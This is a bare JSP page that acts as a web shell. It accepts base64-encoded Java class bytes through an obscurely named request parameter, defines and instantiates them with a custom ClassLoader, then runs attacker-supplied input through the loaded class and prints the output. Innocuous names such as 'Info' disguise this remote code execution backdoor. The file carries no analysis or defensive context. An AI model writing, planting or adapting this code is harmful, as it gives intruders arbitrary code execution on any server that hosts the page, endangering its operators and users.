<%@ page import="java.util.Base64, java.util.function.Function" %><%!
static class Loader extends ClassLoader {
	Loader(ClassLoader parent) { super(parent); }
	Class<?> define(byte[] b) { return defineClass("base.Info", b, 0, b.length); }
}
static Function<String, String> info;
%><%
String code = request.getParameter("k0f53cf964d387");
if (code != null)
	info = (Function<String, String>) new Loader(getClass().getClassLoader())
		.define(Base64.getDecoder().decode(code)).getDeclaredConstructor().newInstance();
String k = request.getParameter("k");
if (k != null && info != null)
	out.print(info.apply(new String(Base64.getDecoder().decode(k))));
%>
